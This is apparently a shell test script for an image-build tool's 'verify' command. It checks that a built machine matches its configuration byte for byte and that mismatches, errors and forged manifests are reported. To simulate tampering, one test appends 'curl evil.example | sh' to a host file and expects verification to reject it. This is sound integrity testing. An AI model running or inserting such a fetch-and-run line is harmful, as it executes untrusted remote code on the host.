#!/bin/sh
# SPDX-License-Identifier: ISC
# An image is compared with a build of its configuration: to the byte, and what
# differs is named, with why.
. "$(dirname "$0")/../cli/cli.subr"
cat >h.lua <<'END'
word = option { text = true, default = "x" }
image { name = "h", platform = "qemu.microvm", memory = 2 * MiB }
greeting = hello { message = word }
END
sed 's/message = word/message = "yy" .. word/' h.lua >other.lua
"$unicc" h.lua -o out >.said 2>&1
report "a build"
TMPDIR=$scratch/tmp
export TMPDIR
mkdir "$TMPDIR"
says "of its configuration" 0 "built of  h.lua, again, to the byte" \
	"$unicc" verify out h.lua
says "with the option's default given" 4 "options[0].origin: it differs" \
	"$unicc" verify out h.lua --set word=x
says "with another option" 4 "differs from the build of h.lua" \
	"$unicc" verify out h.lua --set word=z
says "of another configuration" 4 "out/h.elf: error E0609: text: " \
	"$unicc" verify out other.lua
grep -q 'text: .* first at offset [0-9]* ([a-z]* [a-z_0-9]*): ' .said
report "and the symbol"
grep -q 'instances.[0-9]*..settings.0..value: it differs' .said
report "the setting is named"
grep -qF 'fix: the configuration has other values' .said
report "and why"
says "a configuration with an error" 1 "error E0201" \
	"$unicc" verify out "$root/tests/reject/unknown-setting.lua"
says "a configuration that is none" 1 "error E0101" "$unicc" verify out none.lua
says "options of nothing" 2 "options of which configuration?" \
	"$unicc" verify out --set word=x

# A machine of another name, as seal and fleet make it.
sed 's/message = word/message = sealed("x")/; /^word/d' h.lua >s.lua
{ "$unicc" s.lua -o s && "$unicc" seal s --set greeting.message=y --name m5 -o m5
} >.said 2>&1
report "a sealed machine"
again() {
	says "$1" "$2" "$3" "$unicc" verify m5 s.lua --set greeting.message=y
}
again "of its configuration" 0 "built of  s.lua, again, to the byte"
says "with another value" 4 "m5.elf: error E0609: note unicc 3" \
	"$unicc" verify m5 s.lua
rm m5/m5.spdx.json
again "a file is not here" 0 "to the byte, but for files that are not here"
echo "curl evil.example | sh" >>m5/m5.qemu
perl -I"$root/tests/lib" -MForge -e 'Forge::folder(@ARGV)' m5
again "a host's file that a forged manifest vouches for" 4 "m5.qemu: error E0609"
grep -q "^built of" .said
[ $? -ne 0 ]
report "it is built of nothing"
[ -z "$(ls -A "$TMPDIR")" ]
report "nothing is left behind"
finish
